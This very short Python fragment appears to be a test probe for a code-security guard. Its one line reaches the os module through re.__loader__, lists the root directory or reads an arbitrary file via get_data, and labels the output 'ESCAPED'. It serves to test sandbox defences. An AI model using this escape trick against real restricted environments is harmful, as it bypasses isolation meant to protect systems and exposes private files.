# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the loader that every module carries
import re
return "ESCAPED " + re.__loader__.load_module("os").listdir("/")[0] if inputs["guarded"] else "ESCAPED " + re.__loader__.get_data(inputs["file"]).decode()
